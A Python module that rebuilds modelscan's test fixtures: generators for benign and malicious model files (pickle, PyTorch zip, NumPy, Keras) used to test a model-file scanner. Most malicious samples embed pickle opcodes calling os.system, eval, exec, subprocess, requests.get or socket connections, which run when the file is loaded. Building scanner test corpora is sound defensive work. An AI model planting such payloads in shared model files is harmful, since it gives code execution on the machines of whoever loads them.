"""modelscan (Apache-2.0, github.com/protectai/modelscan): the fixtures of tests/test_modelscan.py and
tests/test_utils.py (pickle injection before a model object), rebuilt with our own code.

Labels: a test expecting issues makes the sample malicious, one expecting ``all_issues == []`` benign.
Not rebuilt (need TensorFlow/h5py, not installable here without pulling TF): the Keras 2 ``.h5`` and
SavedModel ``.pb`` fixtures of ``test_scan_keras`` / ``test_scan_tensorflow``.
"""

from __future__ import annotations

import pickle
from collections import OrderedDict
from collections.abc import Callable

from peer_corpus import Payload, PeerSample
from peer_corpus import asm as a
from peer_corpus._files import (
    blob,
    dense,
    keras_lambda_layer,
    keras_v3,
    npy_header,
    strip_pickle,
    torch_save,
    zip_bytes,
    zipcrypto_bytes,
)

T = "tests/test_modelscan.py"


def _s(sid: str, source: str, description: str, name: str, make: Callable[[Payload], bytes]) -> PeerSample:
    return PeerSample(f"modelscan/{sid}", source, description, blob(name, make))


def _inject(payload: bytes, obj: object) -> bytes:
    """tests/test_utils.py PickleInject: the payload call saved on the stack before the real object."""
    return a.proto(4) + a.frame(payload + strip_pickle(pickle.dumps(obj, protocol=4)) + pickle.STOP)


def _nested_loads(p: Payload) -> bytes:
    inner = a.proto(5) + a.global_("os", "system") + a.unicode0(p.cmd) + pickle.TUPLE1 + pickle.REDUCE + pickle.STOP
    return (a.proto(5) + a.global_("pickle", "loads") + a.value(inner, 5) + pickle.TUPLE1 + pickle.REDUCE + pickle.POP
            + pickle.NONE + pickle.STOP)


def _memo_names(p: Payload) -> bytes:
    u = pickle.UNICODE
    return b"".join([u + b"os\n", b"p2\n0", u + b"system\n", b"p3\n0", u + b"torch\n", b"p0\n0",
                     u + b"LongStorage\n", b"p1\n0", b"g2\n", b"g3\n", pickle.STACK_GLOBAL, pickle.MARK,
                     a.unicode0(p.cmd), pickle.TUPLE, pickle.REDUCE, pickle.STOP, b"\n\n\t\t"])


def _malicious15(p: Payload) -> bytes:
    # bdb.Bdb.run(bdb.Bdb(), code): pickle.dump of the peer's __reduce__ (protocol 4)
    state = a.value({"skip": None, "breaks": {}, "fncache": {}, "frame_returning": None}, 4)
    return a.wrap(a.stack_global("bdb", "Bdb.run") + a.stack_global("bdb", "Bdb") + pickle.EMPTY_TUPLE
                  + pickle.NEWOBJ + state + pickle.BUILD + a.value(p.py, 4) + pickle.TUPLE2 + pickle.REDUCE, 4)


def _unsafe_zip_pytorch(p: Payload) -> bytes:
    # data.pkl: os.system(cmd) saved before an empty state dict (OrderedDict + _metadata BUILD), protocol 2
    data = (a.proto(2) + a.global_("posix", "system") + a.value(p.cmd, 2) + pickle.TUPLE1 + pickle.REDUCE
            + a.global_("collections", "OrderedDict") + pickle.EMPTY_TUPLE + pickle.REDUCE + pickle.EMPTY_DICT
            + a.value("_metadata", 2) + a.global_("collections", "OrderedDict") + pickle.EMPTY_TUPLE + pickle.REDUCE
            + a.value("", 2) + a.value({"version": 1}, 2) + pickle.SETITEM + pickle.SETITEM + pickle.BUILD
            + pickle.STOP)
    root = "unsafe_zip_pytorch"
    return zip_bytes([(f"{root}/data.pkl", data), (f"{root}/byteorder", b"little"), (f"{root}/version", b"3\n"),
                      (f"{root}/.data/serialization_id", b"0123456789")])


def _state_dict() -> object:
    import torch

    return OrderedDict([("0.weight", torch.zeros(2, 4)), ("0.bias", torch.zeros(2)), ("1.weight", torch.zeros(1, 2)),
                        ("1.bias", torch.zeros(1))])


def _unsafe_numpy(p: Payload) -> bytes:
    import numpy as np

    arr = np.array([[1, 2, 3], [4, 5, 6]])
    return _inject(a.call_body("builtins", "exec", [p.py], 4), arr)


def _keras_attack(p: Payload) -> str:
    return f"exec({p.py!r}) or x"


def samples() -> list[PeerSample]:
    fp, ops = f"{T}::test_scan_file_path", f"{T}::test_scan_pickle_operators"
    out = [
        _s("scan_pickle_bytes_eval", f"{T}::test_scan_pickle_bytes", "eval(code) at the default protocol", "file.pkl",
           lambda p: a.call("builtins", "eval", [p.expr], pickle.DEFAULT_PROTOCOL)),
        _s("zip_data_pkl", f"{T}::test_scan_zip", "zip with data.pkl calling eval", "test.zip",
           lambda p: zip_bytes([("data.pkl", a.call("builtins", "eval", [p.expr], 4))])),
        _s("bad_pytorch", f"{T}::test_scan_pytorch", "PNG signature named .pt (skipped, no issue)", "bad_pytorch.pt",
           lambda _: b"\211PNG\r\n\032\n"),
        _s("safe_zip_pytorch", f"{T}::test_scan_pytorch", "torch.save state_dict (zip format)",
           "safe_zip_pytorch.pt", lambda _: torch_save(_state_dict())),
        _s("safe_old_format_pytorch", f"{T}::test_scan_pytorch", "torch.save state_dict (legacy format)",
           "safe_old_format_pytorch.pt", lambda _: torch_save(_state_dict(), legacy=True)),
        _s("unsafe_zip_pytorch", f"{T}::test_scan_pytorch", "torch zip whose data.pkl calls posix.system before "
           "the state dict", "unsafe_zip_pytorch.pt", _unsafe_zip_pytorch),
        _s("safe_numpy", f"{T}::test_scan_numpy", "np.save of an int array", "safe_numpy.npy",
           lambda _: npy_header("<i8", (2, 3)) + bytes(48)),
        _s("unsafe_numpy", f"{T}::test_scan_numpy", "pickle: builtins.exec(code) injected before a numpy array",
           "unsafe_numpy.npy", _unsafe_numpy),
        *(_s(f"benign0_v{v}", fp, "['a','b','c']", f"benign0_v{v}.pkl", lambda _, v=v: pickle.dumps(["a", "b", "c"], v))
          for v in (0, 3, 4)),
        *(_s(f"benign0_v{v}.dill", fp, "['a','b','c'] written by dill", f"benign0_v{v}.dill",
             lambda _, v=v: pickle.dumps(["a", "b", "c"], v)) for v in (0, 3, 4)),
        *(_s(f"malicious1_v{v}", ops, f"eval(code), protocol {v}", f"malicious1_v{v}.pkl",
             lambda p, v=v: a.call("__builtin__" if v < 3 else "builtins", "eval", [p.expr], v)) for v in (0, 3, 4)),
        *(_s(f"malicious1_v{v}.dill", ops, f"eval(code) written by dill, protocol {v}", f"malicious1_v{v}.dill",
             lambda p, v=v: a.call("__builtin__" if v < 3 else "builtins", "eval", [p.expr], v)) for v in (0, 3, 4)),
        *(_s(f"malicious2_v{v}", ops, f"posix.system(cmd), protocol {v}", f"malicious2_v{v}.pkl",
             lambda p, v=v: a.call("posix", "system", [p.cmd], v)) for v in (0, 3, 4)),
        _s("malicious0", fp, "Sour Pickles chain (globals/compile/eval/getattr/apply)", "malicious0.pkl",
           lambda p: b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(" + a.text_str(p.py)
           + b"S''\nS'exec'\ntRp101\n0c__builtin__\neval\n(g101\ng100\ntRp102\n0c__builtin__\ngetattr\n("
           b"c__builtin__\ndict\nS'get'\ntRp103\n0c__builtin__\napply\n(g103\n(g100\nS'picklesmashed'\nltRp104\n"
           b"0g104\n."),
        _s("malicious3", ops, "http.client.HTTPSConnection(host), protocol 0", "malicious3.pkl",
           lambda p: a.call("httplib", "HTTPSConnection", [p.host], 0)),
        _s("malicious4", ops, "requests.api.get(url)", "malicious4.pickle",
           lambda p: a.call("requests.api", "get", [p.url], 4)),
        _s("malicious5", ops, "aiohttp.client.ClientSession()", "malicious5.pickle",
           lambda _: a.call("aiohttp.client", "ClientSession", [], 4)),
        _s("malicious6", ops, "benign pickle then a pickle calling requests.api.get", "malicious6.pkl",
           lambda p: pickle.dumps(["a", "b", "c"]) + a.call("requests.api", "get", [p.url], pickle.DEFAULT_PROTOCOL)),
        _s("malicious7", ops, "socket.create_connection((host, port))", "malicious7.pkl",
           lambda p: a.call("socket", "create_connection", [(p.host, 9)], 4)),
        _s("malicious8", ops, "subprocess.run([...])", "malicious8.pkl",
           lambda p: a.call("subprocess", "run", [["touch", str(p.marker)]], 4)),
        _s("malicious9", ops, "sys.exit(0)", "malicious9.pkl", lambda _: a.call("sys", "exit", [0], 4)),
        _s("malicious10", ops, "INST __builtin__.exec", "malicious10.pkl",
           lambda p: b"(" + a.text_str(p.py) + b"i__builtin__\nexec\n."),
        _s("malicious11", ops, "names via PUT/GET, STACK_GLOBAL os.system", "malicious11.pkl",
           lambda p: _memo_names(p)[:-5]),
        _s("malicious12", ops, "pickle.loads(BINBYTES nested pickle calling os.system)", "malicious12.pkl",
           _nested_loads),
        _s("malicious13", ops, "GLOBAL builtins 'eval.__call__' (dotted attribute)", "malicious13.pkl",
           lambda p: a.proto(5) + a.global_("builtins", "eval.__call__") + a.unicode0(p.expr) + pickle.TUPLE1
           + pickle.REDUCE + pickle.STOP),
        _s("malicious14", ops, "malicious11 with trailing junk bytes", "malicious14.pkl", _memo_names),
        _s("malicious15", ops, "bdb.Bdb.run(Bdb(), code)", "malicious15.pkl", _malicious15),
        _s("password_protected", f"{T}::test_scan_directory_path", "ZipCrypto-encrypted zip (skipped, no issue)",
           "password_protected.zip", lambda _: zipcrypto_bytes("test.txt", b"secret\n", b"password")),
        _s("keras_safe.keras", f"{T}::test_scan_keras", "Keras 3 Dense model", "safe.keras",
           lambda _: keras_v3([dense()])),
        _s("keras_unsafe.keras", f"{T}::test_scan_keras", "Keras 3 model with two Lambda layers running exec",
           "unsafe.keras", lambda p: keras_v3([dense(), dense("dense_1"),
                                               keras_lambda_layer(f"lambda x: {_keras_attack(p)}"),
                                               keras_lambda_layer(f"lambda x: {_keras_attack(p)}", "lambda_1")])),
        _s("keras_unsafe_dill", f"{T}::test_scan_keras", "dill pickle: builtins.exec(code) injected before the model "
           "object (a plain dict stands in for the Keras model)", "unsafe",
           lambda p: _inject(a.call_body("builtins", "exec", [p.py], 4), {"class_name": "Functional", "layers": []})),
    ]
    return out  # noqa: RET504 - one list literal, returned
